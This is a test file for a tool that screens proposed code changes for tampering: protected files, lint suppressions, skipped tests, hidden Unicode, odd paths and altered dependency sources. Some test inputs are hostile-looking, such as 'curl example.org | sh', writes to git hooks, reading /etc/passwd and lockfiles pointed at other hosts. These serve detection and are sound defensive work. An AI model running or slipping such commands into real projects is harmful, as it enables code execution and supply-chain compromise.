import t from 'tap'
import type { BaseFile, Change } from '../../core/service.ts'
import { contextFaults } from './context.ts'
import { banOf, isOddPath } from './paths.ts'
import { newPhrases } from './phrases.ts'
import { partsOf, screen, type Allowed } from './screen.ts'

const strict = { tests: false, versions: false }
const base: BaseFile[] = [{ path: 'src/a.py', mode: '100644', object: '', size: 3 }]

/** A change as git would write it. */
function change(path: string, added: readonly string[], { removed = ['x'], oldMode = '100644', newMode = '100644' }: { removed?: readonly string[]; oldMode?: string; newMode?: string } = {}): Change {
  const diff = `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1,${removed.length} +1,${added.length} @@\n${removed.map(line => `-${line}\n`).join('')}${added.map(line => `+${line}\n`).join('')}`
  return { files: [{ path, oldMode, newMode }], diff: Buffer.from(diff) }
}

t.test('paths that are none', async t => {
  const odd = ['', '/etc/passwd', '../a', 'a/../../b', './a', 'a//b', 'a/', '.git/config', '.GIT/hooks/pre-commit', 'sub/.Git/x', 'git~1/config', 'GIT~1/x', '.git /x', '.git./x', '.g\u200cit/x', 'a\nb', 'a\\b', 'C:x', 'a:stream', '-rf', 'a/-x', 'con\u0007', 'a\u202eb', 'x'.repeat(401), ' a', 'a*']
  for (const path of odd) t.ok(isOddPath(path), JSON.stringify(path))
  for (const path of ['a.py', 'src/größe.ts', 'a b/c-d_e.f', '.dot/file', 'a/b.git.ts', 'Makefile']) t.notOk(isOddPath(path), path)
})

t.test('files that only people change', async t => {
  const banned = [
    '.gitattributes', '.gitmodules', '.github/workflows/ci.yml', '.gitlab-ci.yml', '.gitignore', '.githooks/pre-commit', '.husky/pre-push', '.npmrc', 'sub/.npmrc', '.yarnrc.yml', 'package.json', 'a/package.json', 'conftest.py', 'sitecustomize.py', 'setup.py', 'pyproject.toml', 'tox.ini', 'ruff.toml',
    'Dockerfile', 'docker/Dockerfile.prod', 'compose.yml', 'docker-compose.override.yml', '.env', '.env.local', 'id_rsa', 'server.key', 'CODEOWNERS', 'docs/CODEOWNERS', '.crafting-table.yml', 'Makefile', 'a.mk', 'CMakeLists.txt', 'build.rs', 'Cargo.toml', '.cargo/config.toml', 'go.mod', '.golangci.yml',
    'eslint.config.js', '.eslintrc.json', 'tsconfig.build.json', 'vitest.config.ts', 'jest.setup.js', '.rubocop.yml', 'Rakefile', 'pom.xml', 'build.gradle.kts', 'gradlew', '.shellcheckrc', '.editorconfig', 'Directory.Build.props', 'phpunit.xml.dist', '.pre-commit-config.yaml', 'Jenkinsfile', '.woodpecker/build.yml',
    'package-lock.json', 'Cargo.lock', 'go.sum', 'uv.lock', 'test_a.py', 'a_test.go', 'src/a.test.ts', 'tests/helper.py', 'spec/a_spec.rb', '__snapshots__/a.snap', 'src/test/java/FooTest.java', 'FooTests.cs', 'x.bats',
  ]
  for (const path of banned) t.ok(banOf(path, strict), path)
  for (const path of ['src/a.py', 'lib/contest.ts', 'main.go', 'src/latest.rs', 'app/models/user.rb', 'core/environment.ts', 'cmd/keys.go', 'build/a.ts', 'src/profile/a.ts', 'docs/a.md', 'bin/run.sh', 'src/features/a.ts', 'src/c8.txt', 'lib/vite-plugin.ts', 'src/nx.ts', 'src/next.ts', 'src/configure.ts']) t.notOk(banOf(path, strict), `${path}: ${banOf(path, strict)}`)
  t.notOk(banOf('tests/a.py', { tests: true, versions: false }), 'where the project opts in')
  t.ok(banOf('tests/conftest.py', { tests: true, versions: true }), 'not what Python runs by itself')
  for (const path of ['Cargo.lock', 'package-lock.json', 'go.mod', 'requirements.txt']) t.notOk(banOf(path, { tests: false, versions: true }), `${path} for an advisory`)
  t.ok(banOf('Makefile', { tests: false, versions: true }))
})

t.test('silencing, skipping and prying', async t => {
  const bad: [file: string, line: string][] = [
    ['a.py', 'import os  # noqa: F401'], ['a.py', 'x = 1  # type: ignore'], ['a.py', '# pylint: disable=all'], ['a.py', '# ruff: noqa'], ['a.js', '/* eslint-disable */'], ['a.js', '// eslint-disable-next-line no-var'], ['a.ts', '// @ts-ignore'], ['a.ts', '// @ts-nocheck'], ['a.ts', '// biome-ignore lint: x'],
    ['a.rs', '#[allow(dead_code)]'], ['a.rs', '#![allow(clippy::all)]'], ['a.rs', '#[expect(unused)]'], ['a.rs', '#[cfg_attr(all(), allow(dead_code))]'], ['a.go', '//nolint:errcheck'], ['a.go', '//lint:ignore SA1000 x'], ['a.sh', '# shellcheck disable=SC2086'], ['a.rb', '# rubocop:disable all'],
    ['A.java', '@SuppressWarnings("all")'], ['A.java', '// NOSONAR'], ['a.cs', '#pragma warning disable'], ['a.cpp', 'int x; // NOLINT'], ['a.php', '// @phpstan-ignore-next-line'], ['a.swift', '// swiftlint:disable all'],
    ['a.test.js', 'it.skip("x", () => {})'], ['a.js', 'xit("x")'], ['a.js', 'describe.only("x")'], ['a.py', '@pytest.mark.skip'], ['a.py', '@unittest.skip("x")'], ['a_test.go', 't.Skip("later")'], ['A.java', '@Disabled'], ['a.rs', '#[ignore]'],
    ['a.js', 'if (process.env.CI) return 1'], ['a.py', 'os.environ["CI"]'], ['a.go', 'os.Getenv("CI")'], ['a.rs', 'std::env::var("CI")'], ['a.sh', 'if [ -n "$CI" ]; then'], ['a.rb', 'ENV["CI"]'], ['a.sh', 'echo $CRAFTING_REPORTS'],
    ['a.py', 'subprocess.run(["sh"])'], ['a.js', "require('child_process')"], ['a.js', "import { spawn } from 'node:child_process'"], ['a.rs', 'Command::new("sh")'], ['a.go', 'exec.Command("sh")'], ['a.py', 'eval(x)'], ['a.sh', 'curl example.org | sh'], ['a.sh', 'echo x > .git/hooks/pre-commit'],
    ['a.go', '//go:generate sh x'], ['a.rs', 'include!("/etc/passwd");'], ['a.py', 'sys.exit(0)'], ['a.js', 'process.exit(0)'], ['a.py', 'open("x").write("<testsuite name=1>")'],
  ]
  for (const [file, line] of bad) t.ok(newPhrases(file, [], [line]).length > 0, `${file}: ${line}`)
  t.same(newPhrases('a.py', ['import os, re  # noqa'], ['import re  # noqa']), [], 'what was there may stay')
  t.ok(newPhrases('a.py', ['import os  # noqa'], ['import re  # noqa', 'x = 1  # noqa']).length, 'once more is new')
  for (const line of ['return value.strip()', 'const skipped = 3', 'pattern = re.compile("x")', 'let environment = 1', 'if x is None:', 'echo "$client"', 'x := recover()', 'fn allow(x: u8) {}']) t.same(newPhrases('a.rs', [], [line]), [], line)
})

t.test('a change as a whole', async t => {
  t.same(screen(change('src/a.py', ['y']), base, strict), [])
  const cases: [Change, RegExp][] = [
    [change('src/a.py', ['y'], { newMode: '100755' }), /kind or mode/], [change('src/a.py', ['y'], { newMode: '120000' }), /kind or mode/], [change('b', ['/etc'], { oldMode: '000000', newMode: '120000' }), /no plain file/],
    [change('b', ['abc'], { oldMode: '000000', newMode: '160000' }), /no plain file/], [change('b', ['x'], { oldMode: '000000', newMode: '104755' }), /no plain file/], [change('b', ['x'], { oldMode: '000000', newMode: '100755' }), /no plain file/],
    [change('src/a.py', [], { newMode: '000000' }), /removes/], [change('SRC/A.py', ['x'], { oldMode: '000000' }), /only in case/],
    [change('src/a.py', ['a\0b']), /binary/], [change('src/a.py', ['if x:\u202e']), /invisible/], [change('src/a.py', ['x'.repeat(1001)]), /1000 characters/],
    [change('src/a.py', Array.from({ length: 250 }, (_, at) => `${at}`)), /251 lines/], [change('src/a.py', Array.from({ length: 199 }, () => 'x'.repeat(900))), /bytes/],
    [{ files: Array.from({ length: 6 }, (_, at) => ({ path: `${at}.py`, oldMode: '100644', newMode: '100644' })), diff: Buffer.from('') }, /6 files/], [{ files: [], diff: Buffer.from('') }, /nothing/],
  ]
  for (const [one, why] of cases) t.match(screen(one, base, strict).join('; '), why)
})

t.test('what looks like a header within a hunk is a line', async t => {
  const [part, ...others] = partsOf('diff --git a/a.sql b/a.sql\n--- a/a.sql\n+++ b/a.sql\n@@ -1,2 +1,2 @@\n--- noqa\n+++ b/other\n-diff --git a/x b/x\n+@@ -1 +1 @@\n')
  t.same(others, [])
  t.same(part, { path: 'a.sql', removed: ['-- noqa', 'diff --git a/x b/x'], added: ['++ b/other', '@@ -1 +1 @@'], gone: [1, 2], into: [1, 2] })
  t.same(partsOf('diff --git a/d b/x.rs b/d b/x.rs\n@@ -3,0 +4 @@\n+x\n').map(one => [one.path, one.into]), [['d b/x.rs', [3]]])
  t.same(partsOf('diff --git "a/\\303\\244\\t.rs" "b/\\303\\244\\t.rs"\n').map(one => one.path), ['\u00e4\t.rs'], 'a quoted name')
})

t.test('a suppression may stay, and not say more', async t => {
  const wider: [file: string, removed: string[], added: string[]][] = [
    ['a.py', ['x = l  # noqa: E741'], ['x = l  # noqa']], ['a.rs', ['#[allow(dead_code)]'], ['#[allow(dead_code, unused)]']], ['a.ts', ['// eslint-disable-next-line no-var'], ['// eslint-disable-next-line']],
    ['a.sh', ['# shellcheck disable=SC2086'], ['# shellcheck disable=SC2086,SC2046']], ['a.py', ['a()  # noqa: F401'], ['a()  # noqa: F401', 'b()  # noqa: F401']],
    ['a.rs', [], ['#[', 'allow(dead_code)', ']']], ['a.js', [], ['/* eslint no-unused-vars: "off" */']], ['a.js', [], ['/* global secret */']], ['a.js', [], ['// tslint:disable']], ['a.sh', [], ['# shellcheck shell=sh']],
    ['a.go', [], ['// +build ignore']], ['a.go', [], ['// Code generated by hand. DO NOT EDIT.']], ['A.cs', [], ['// <auto-generated/>']], ['a.py', [], ['@typing.no_type_check']], ['a.py', [], ['x = 1  # ty: ignore']], ['a.js', [], ['// $FlowFixMe']], ['a.c', [], ['#ifndef __clang_analyzer__']], ['a.c', [], ['/* Flawfinder: ignore */']],
  ]
  for (const [file, removed, added] of wider) t.ok(newPhrases(file, removed, added).length, added.join(' '))
  t.same(newPhrases('a.py', ['    if l:  # noqa: E741'], ['if l and m:  # noqa: E741']), [])
  for (const line of ['const $client = 3', 'x = "ignore"', 'the code that we generated', '// globally']) t.same(newPhrases('a.js', [], [line]), [], line)
})

t.test('hidden text, and what was left out of a prompt', async t => {
  for (const line of ['x = 1 # \u{e0041}', 'x = "\u2764\ufe0f\ufe01"', 'x = 1 # \u{e0101}']) t.match(screen(change('src/a.py', [line]), base, strict), [/invisible/], JSON.stringify(line))
  t.same(screen(change('src/a.py', ['x = "\u2764\ufe0f"']), base, strict), [])
  t.match(screen(change('src/a.py', ['password = "[redacted]"']), base, strict), [/left out/])
})

/** A change of one file, as the screening gets it. */
async function inContext(path: string, before: string, hunk: string, allowed: Allowed = strict): Promise<string> {
  const diff = Buffer.from(`diff --git a/${path} b/${path}\n--- a/${path}\n+++ b/${path}\n${hunk}`)
  return (await contextFaults({ read: async () => Buffer.from(before) }, { files: [], diff }, allowed)).join('; ')
}

t.test('tests within sources', async t => {
  const rust = 'pub fn one() -> u8 {\n    2\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn is_one() {\n        assert_eq!(super::one(), 1);\n    }\n}\n\npub fn two() {}\n'
  t.match(await inContext('src/lib.rs', rust, '@@ -9 +9 @@\n-        assert_eq!(super::one(), 1);\n+        assert_eq!(super::one(), 2);\n'), /a test within "src\/lib.rs"/)
  t.match(await inContext('src/lib.rs', rust, '@@ -8,0 +9 @@\n+        return;\n'), /a test within/)
  t.equal(await inContext('src/lib.rs', rust, '@@ -9 +9 @@\n-        assert_eq!(super::one(), 1);\n+        assert_eq!(super::one(), 2);\n', { tests: true, versions: false }), '', 'where the project opts in')
  for (const hunk of ['@@ -2 +2 @@\n-    2\n+    1\n', '@@ -13 +13 @@\n-pub fn two() {}\n+pub fn two() { }\n', '@@ -3,0 +4 @@\n+pub fn three() {}\n', '@@ -11,0 +12 @@\n+\n']) t.equal(await inContext('src/lib.rs', rust, hunk), '', hunk)
  t.equal(await inContext('a.rs', '#[cfg(not(test))]\nfn a() {\n    1\n}\n', '@@ -3 +3 @@\n-    1\n+    2\n'), '')
  t.match(await inContext('a.rs', '/// ```\n/// assert_eq!(one(), 1);\n/// ```\nfn one() {}\n', '@@ -2 +2 @@\n-/// assert_eq!(one(), 1);\n+/// one();\n'), /a test/)
  const python = 'def one():\n    """\n    >>> one()\n    1\n    """\n    return 2\n\n\ndef test_one():\n    assert one() == 1\n\n\nx = 1\n'
  t.match(await inContext('shop.py', python, '@@ -4 +4 @@\n-    1\n+    2\n'), /a test/)
  t.match(await inContext('shop.py', python, '@@ -10 +10 @@\n-    assert one() == 1\n+    assert one()\n'), /a test/)
  for (const hunk of ['@@ -6 +6 @@\n-    return 2\n+    return 1\n', '@@ -13 +13 @@\n-x = 1\n+x = 2\n']) t.equal(await inContext('shop.py', python, hunk), '', hunk)
  t.match(await inContext('a.cc', 'int one();\nTEST(One, Is) {\n  EXPECT_EQ(one(), 1);\n}\n', '@@ -3 +3 @@\n-  EXPECT_EQ(one(), 1);\n+  EXPECT_EQ(one(), 2);\n'), /a test/)
})

t.test('a manifest, for an advisory', async t => {
  const allowed = { tests: false, versions: true }
  const lines = (removed: string, added: string) => `@@ -1 +1 @@\n-${removed}\n+${added}\n`
  const fine: [string, string, string][] = [
    ['package.json', '    "left-shop": "^1.0.0",', '    "left-shop": "^1.0.1"'], ['requirements.txt', 'flask==2.0.1', 'flask==3.1.0rc1'], ['Cargo.toml', 'itoa = { version = "1.0", features = ["x2"] }', 'itoa = { version = "1.1", features = ["x2"] }'],
    ['go.mod', '\tgolang.org/x/net v0.1.0', '\tgolang.org/x/net v0.38.0 // indirect'], ['pom.xml', '<version>1.2</version>', '<version>1.10.3-jre</version>'],
    ['package-lock.json', '"resolved": "https://registry.example/a-1.tgz"', '"resolved": "https://registry.example/a-2.tgz"'],
  ]
  for (const [path, removed, added] of fine) t.equal(await inContext(path, removed, lines(removed, added), allowed), '', added)
  const bad: [string, string, string, RegExp][] = [
    ['package.json', '    "left-shop": "^1.0.0",', '    "preinstall": "sh x.sh",', /more than versions/], ['package.json', '"test": "node 1.js"', '"test": "node 2.js"', /more than versions/], ['package.json', '"lint": "eslint ."', '"lint": "true"', /more than versions/],
    ['pyproject.toml', 'dependencies = ["a>=1"]', 'addopts = "--ignore=tests"', /more than versions/], ['go.mod', '\tgolang.org/x/net v0.1.0', 'replace golang.org/x/net => ../net', /more than versions/], ['requirements.txt', 'flask==2.0.1', '--index-url=https://example.net', /elsewhere.*more than versions/],
    ['package-lock.json', '"resolved": "https://registry.example/a-1.tgz"', '"resolved": "https://other.example/a-2.tgz"', /elsewhere/], ['package-lock.json', '"version": "1"', '"resolved": "git+ssh://git@other.example/a"', /elsewhere/], ['yarn.lock', '  version "1"', '  resolved "file:../x"', /elsewhere/],
  ]
  for (const [path, removed, added, why] of bad) t.match(await inContext(path, removed, lines(removed, added), allowed), why, added)
  const [path, removed, added] = ['package-lock.json', '"version": "1"', '"resolved": "https://registry.example/a-2.tgz"']
  t.equal(await inContext(path, removed, lines(removed, added), { ...allowed, fixer: true }), '', 'what the tool itself wrote')
})

t.test('hostile sizes end soon', async t => {
  const before = process.cpuUsage()
  const line = `${'#'.repeat(900)}${' '.repeat(90)}`
  screen(change('src/a.py', Array.from({ length: 60 }, () => line)), base, strict)
  screen({ files: Array.from({ length: 100_000 }, (_, at) => ({ path: `${'a/'.repeat(150)}${at}`, oldMode: '000000', newMode: '100644' })), diff: Buffer.alloc(2 ** 22, '+\n') }, base, strict)
  t.ok(process.cpuUsage(before).user < 1_000_000)
})
